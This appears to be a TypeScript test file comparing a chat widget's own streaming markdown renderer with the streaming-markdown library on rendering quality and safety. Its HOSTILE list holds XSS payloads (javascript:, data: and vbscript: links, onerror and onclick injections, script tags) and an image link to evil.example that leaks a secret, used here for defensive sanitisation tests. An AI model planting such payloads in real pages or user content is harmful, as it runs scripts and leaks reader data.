/**
 * Why the widget has a renderer of its own: the same texts through streaming-markdown, the library that it could have used.
 * Each case says what both do. Where the library has become better, this fails, and docs/decisions/0009 can be thought over.
 */
import { default_renderer as renderer, parser, parser_end as end, parser_write as write } from '../../../node_modules/streaming-markdown/smd.js';
import { createMarkdownView } from '../../../src/widget/markdown/blocks.ts';

function ours( text: string ): HTMLElement {
	const root = document.createElement( 'div' );
	const cite = ( number: number ) => {
		const mark = document.createElement( 'sup' );
		mark.textContent = String( number );
		return mark;
	};
	const view = createMarkdownView( root, { cite, text: ( key ) => key } );
	for ( const piece of text ) {
		view.push( piece );
		view.draw();
	}
	view.end();
	root.normalize();
	return root;
}

function theirs( text: string ): HTMLElement {
	const root = document.createElement( 'div' );
	const one = parser( renderer( root ) );
	for ( const piece of text ) {
		write( one, piece );
	}
	end( one );
	root.normalize();
	return root;
}

const DANGEROUS = [ 'a[href^="javascript:" i]', 'a[href^="data:" i]', 'a[href^="vbscript:" i]', 'img', 'script', 'iframe', 'style', '[onerror]', '[onclick]' ].join();

/** Hostile texts; whether the library makes something of them that runs, or that asks another server. */
const HOSTILE: [ string, string, boolean ][] = [
	[ 'a script behind a link', '[a](javascript:alert(1))', true ],
	[ 'the same in other letters', '[a](JaVaScRiPt:alert(1))', true ],
	[ 'a page in a link', '[a](data:text/html,<script>alert(1)</script>)', true ],
	[ 'an older script', '[a](vbscript:x)', true ],
	[ 'a picture that reports who reads', '![a](https://evil.example/?secret)', true ],
	[ 'elements', '<img src=x onerror=alert(1)><script>alert(1)</script><style>*{display:none}</style>', false ],
	[ 'an attribute broken out of', '[a](https://a.example/"onclick="alert(1))', false ],
];

test.each( HOSTILE )( '%s', ( _, text, letThrough ) => {
	expect( ours( text ).querySelector( DANGEROUS ) ).toBeNull();
	expect( theirs( text ).querySelector( DANGEROUS ) !== null ).toBe( letThrough );
} );

const depth = ( element: Element ): number => Math.max( 0, ...[ ...element.children ].map( ( child ) => 1 + depth( child ) ) );

test( 'nested quotes end somewhere', () => {
	// The library nests at most its own 24 levels, and has no deeper memory.
	expect( depth( ours( '> '.repeat( 30 ) + 'deep' ) ) ).toBeLessThan( 10 );
	expect( depth( theirs( '> '.repeat( 30 ) + 'deep' ) ) ).toBeGreaterThan( 20 );
} );

/** What models write: the text, what must stand in the drawing, and whether the library draws it too. */
const RICH: [ string, string, string, boolean ][] = [
	[ 'emphasis and code', '***both*** and ``x ` y``', '<strong><em>both</em></strong> and <code>x ` y</code>', true ],
	[ 'lists that begin later', '3. c', '<ol start="3">', true ],
	[ 'fenced code', '```js\nx\n```', '<code', true ],
	[ 'names of files', 'snake_case_word', 'snake_case_word', false ],
	[ 'a mark that is never closed', 'x *open and on', 'x *open and on', false ],
	[ 'a list with brackets', '1) x\n2) y', '<ol>', false ],
	[ 'citations', 'Two days [1].', '<sup>1</sup>', false ],
	[ 'an address with brackets at the end of a sentence', 'see https://a.example/x_(y).', 'href="https://a.example/x_(y)"', false ],
	[ 'a link with brackets', '[x_(y)](https://a.example/x_(y))', 'href="https://a.example/x_(y)"', false ],
	[ 'a link with a title', '[b](https://a.example/page "T")', 'href="https://a.example/page"', false ],
	[ 'addresses in angle brackets', '<https://a.example/> <a@b.example>', 'href="mailto:a@b.example"', false ],
	[ 'code between tildes', '~~~\ncode\n~~~', '<pre>', false ],
	[ 'a second paragraph of an item', '- a\n\n  b', '<li><p>a</p><p>b</p></li>', false ],
	[ 'the text after a table', '| A |\n| --- |\n| 1 |\nend', '<p>end</p>', false ],
	[ 'a bar that is no table', '| a\nb', '<p>| a<br>b</p>', false ],
	[ 'tables for the keyboard', '| A |\n| --- |\n| 1 |\n', 'tabindex="0"', false ],
];

test.each( RICH )( '%s', ( _, text, html, drawn ) => {
	expect( ours( text ).innerHTML ).toContain( html );
	expect( theirs( text ).innerHTML.includes( html ) ).toBe( drawn );
} );
